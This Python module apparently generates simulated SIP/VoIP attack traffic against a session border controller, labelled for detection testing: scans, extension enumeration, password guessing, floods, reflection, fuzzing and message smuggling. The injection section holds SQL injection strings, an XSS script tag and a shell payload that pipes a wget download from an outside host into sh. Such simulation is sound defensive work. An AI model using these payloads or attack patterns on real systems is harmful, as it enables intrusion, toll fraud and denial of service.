"""Attacks of strangers: scanning, guessing, floods, broken and poisoned messages."""

import dialog as sip
import ordinary
from people import SBC
from plot import ask, guess, homes, plot
from tape import Host

NETWORK = [Host(f"192.0.2.{last}") for last in range(20, 60)]


# Scanning

@plot(1.1, "scan-tool-ua scan-tool-struct scan-options-sweep")
def sweep_with_a_known_tool(world, me):
    for host in NETWORK:
        dialog = me.dialog(world, "100", "100", b=host, agent="friendly-scanner")
        dialog.request("OPTIONS")
        if host.ip == SBC.ip:
            yield 0.003
            dialog.answer("200 OK")
        yield 0.1


@plot(1.9, "scan-options-sweep")
def sweep_in_disguise(world, me):
    for host in NETWORK[:14]:
        me.dialog(world, "info", "info", b=host).request("OPTIONS")
        yield 4


@plot(2.4, "scan-port-sweep")
def sweep_over_ports(world, me):
    for port in range(5060, 5075):
        me.dialog(world, "100", "100", b=SBC.at(port)).request("OPTIONS")
        yield 1.5


@plot(2.8, "ext-enum")
def enumeration(world, me):
    for n in range(25):
        yield from ask(me.dialog(world, str(100 + n), str(100 + n)), "REGISTER", "404 Not Found")
        yield 0.8


@plot(3.0, "ext-enum-slow")
def slow_enumeration(world, me):
    for n in range(90):
        yield from ask(me.dialog(world, str(2000 + n), str(2000 + n)), "REGISTER", "404 Not Found")
        yield 25


@plot(4.0, "ext-enum-distributed")
def distributed_enumeration(world, me):
    hosts = me.others(10)
    me.names.append(SBC.ip)
    for n in range(80):
        user = str(7000 + n)
        yield from ask(me.dialog(world, user, user, a=hosts[n % len(hosts)]), "REGISTER", "404 Not Found")
        yield 4


@plot(4.5, "dialplan-prefix-probe")
def search_for_a_way_out(world, me):
    for prefix in ("00", "900", "9011", "+", "000", "810", "99900"):
        dialog = me.dialog(world, "1001", prefix + "441519470396")
        dialog.request("INVITE", body=dialog.sdp(0))
        yield 0.004
        yield from sip.refuse(dialog, "404 Not Found")
        yield 6


@plot(4.8, "method-probe")
def search_for_methods(world, me):
    dialog = me.dialog(world, "100", "100")
    for method in ("OPTIONS", "INFO", "SUBSCRIBE", "NOTIFY", "PUBLISH", "MESSAGE", "REFER", "UPDATE", "PRACK", "BYE"):
        yield from ask(dialog, method, "405 Method Not Allowed")
        yield 0.3


@plot(5.1, "canary-hit")
def call_to_a_decoy(world, me):
    dialog = me.dialog(world, "5551000", "49302999999")
    dialog.request("INVITE", body=dialog.sdp(0))
    yield 0.004
    yield from sip.refuse(dialog, "404 Not Found")


# Authentication

@plot(5.3, "auth-bruteforce auth-bruteforce-user")
def password_guessing(world, me):
    victim = homes(world)[10]
    me.names.append(SBC.ip)
    for _ in range(60):
        yield from guess(me.dialog(world, victim.user, victim.user), victim.user)
        yield 0.05


@plot(5.5, "auth-bruteforce-slow auth-bruteforce")
def slow_password_guessing(world, me):
    victim = homes(world)[11]
    for _ in range(120):
        yield from guess(me.dialog(world, victim.user, victim.user), victim.user)
        yield 24


@plot(6.5, "auth-bruteforce-dist")
def guessing_from_many_places(world, me):
    victim = homes(world)[12]
    hosts = me.others(14)
    me.names.append(victim.user)
    for n in range(28):
        yield from guess(me.dialog(world, victim.user, victim.user, a=hosts[n % len(hosts)]), victim.user)
        yield 12


@plot(7.0, "auth-spray")
def one_password_for_all(world, me):
    for victim in homes(world)[20:40]:
        yield from guess(me.dialog(world, victim.user, victim.user), victim.user)
        yield 20


@plot(7.3, "auth-crack-success")
def guessing_that_succeeds(world, me):
    victim = homes(world)[13]
    me.names.append(victim.user)
    for _ in range(30):
        yield from guess(me.dialog(world, victim.user, victim.user), victim.user)
        yield 1.5
    yield from guess(me.dialog(world, victim.user, victim.user), victim.user, status="200 OK")


@plot(7.6, "nonce-reuse nonce-unknown")
def stolen_credentials_replayed(world, me):
    for victim in homes(world)[40:46]:
        yield from guess(me.dialog(world, victim.user, victim.user), victim.user, nonce="5f1d7ab2c3e4f5061728394a")
        yield 3


# Floods

@plot(8.2, "flood-invite flood-any")
def flood_of_calls(world, me):
    for n in range(400):
        dialog = me.dialog(world, "100", str(3000 + n % 7))
        dialog.request("INVITE", body=dialog.sdp(0))
        yield 0.005


@plot(8.4, "flood-register flood-any")
def flood_of_registrations(world, me):
    for _ in range(300):
        me.dialog(world, "100", "100").request("REGISTER")
        yield 0.01


@plot(8.8, "flood-halfopen")
def calls_never_acknowledged(world, me):
    for n in range(40):
        dialog = me.dialog(world, "100", str(8000 + n))
        dialog.request("INVITE", body=dialog.sdp(0))
        yield 0.5
        dialog.answer("200 OK", f"Contact: <sip:{SBC}>\r\n", dialog.sdp(1))
        yield 0.5


@plot(9.2, "flood-distributed")
def flood_from_everywhere(world, me):
    me.names.append(SBC.ip)
    for n in range(9000):
        host = Host(f"{101 + n % 50}.{n // 50 % 250}.{world.random.randrange(250)}.{1 + n % 200}")
        dialog = me.dialog(world, "100", "200", a=host)
        dialog.request("INVITE", body=dialog.sdp(0))
        yield 0.001


@plot(9.5, "sip-reflection")
def reflection_at_a_victim(world, me):
    victim = Host("62.113.9.9", 3074)
    me.names.append(victim.ip)
    fill = "".join(f"X-Feature-{n}: {'supported ' * 12}\r\n" for n in range(18))
    for n in range(900):
        dialog = me.dialog(world, "a", "b", a=victim, agent="")
        dialog.request("OPTIONS")
        yield 0.001
        dialog.answer("200 OK", fill)
        yield 0.01


@plot(10.3, "tdos")
def jamming_of_one_number(world, me):
    victim = homes(world, "enterprise")[0]
    me.names += [victim.number, victim.user]
    for _ in range(120):
        caller = f"49157{world.random.randrange(10**7, 10**8)}"
        world.tape.start(ordinary.incoming(world, caller, victim, fate="answered", seconds=3))
        yield 0.7


# Broken and poisoned messages

@plot(11.1, "fuzz-burst sip-malformed fuzz-random")
def fuzzing(world, me):
    dialog = me.dialog(world, "100", "200")
    dialog.request("OPTIONS")
    good = (f"OPTIONS sip:200@{SBC.ip} SIP/2.0\r\nVia: SIP/2.0/UDP {me.host};branch=z9hG4bK%d;rport\r\nMax-Forwards: 70\r\n"
            f"From: <sip:100@x>;tag=1\r\nTo: <sip:200@x>\r\nCall-ID: %d@x\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n")
    breaks = (("CSeq: 1 OPTIONS\r\n", ""), ("CSeq: 1 OPTIONS", "CSeq: 1 INVITE"), ("SIP/2.0\r\n", "SIP/7.7\r\n"), ("From: <sip:100@x>;tag=1\r\n", ""),
              ("branch=z9hG4bK", "branch="), ("Content-Length: 0", "Content-Length: 9x"), ("CSeq: 1", "CSeq: 99999999999"),
              ("Max-Forwards: 70", "Max-Forwards: -1"), ("tag=1", "tag=1;tag=2"), ("To: <sip:200@x>", "To: <<sip:200@x"))
    for n in range(40):
        old, new = breaks[n % len(breaks)]
        world.tape.udp(me.host, SBC, (good % (n, n)).replace(old, new).encode())
        yield 0.2


@plot(11.4, "inj-sql")
def poisoned_name(world, me):
    for text in ("100' OR 1=1 --", "x'; DROP TABLE sip_users;--", "1' UNION SELECT secret FROM users--"):
        yield from ask(me.dialog(world, "100", "200", name=f'"{text}" '), "REGISTER", "403 Forbidden")
        yield 5


@plot(11.6, "inj-shell inj-xss")
def poisoned_agent(world, me):
    for text in ("$(wget http://45.83.1.1/x -O- | sh)", "<script src=//45.83.1.1/x></script>"):
        yield from ask(me.dialog(world, "100", "200", agent=text), "OPTIONS", "200 OK")
        yield 5


@plot(11.8, "sip-smuggling")
def one_message_in_another(world, me):
    inside = f"BYE sip:200@{SBC.ip} SIP/2.0\r\nCall-ID: victim\r\n\r\n"
    me.dialog(world, "100", "200").request("OPTIONS", f"Content-Length: {len(inside)}\r\n", agent=inside)
    yield 1
    dialog = me.dialog(world, "100", "200", lines=(f"Content-Length: {len(inside)}",))
    dialog.request("OPTIONS")


@plot(12.2, "sdp-foreign-media")
def media_to_the_server_itself(world, me):
    dialog = me.dialog(world, "100", "200", media=(Host("127.0.0.1", 22), SBC))
    dialog.request("INVITE", body=dialog.sdp(0))
    yield 0.01
    yield from sip.refuse(dialog, "488 Not Acceptable Here")


@plot(12.4, "header-evasion")
def identity_in_disguise(world, me):
    dialog = me.dialog(world, "100", "200", lines=("P-Asserted-Identity : <sip:+4930110@carrier.example>", "P-Asserted-Identity: <sip:100@x>"))
    dialog.request("INVITE", body=dialog.sdp(0))
    yield 0.01
    yield from sip.refuse(dialog, "403 Forbidden")
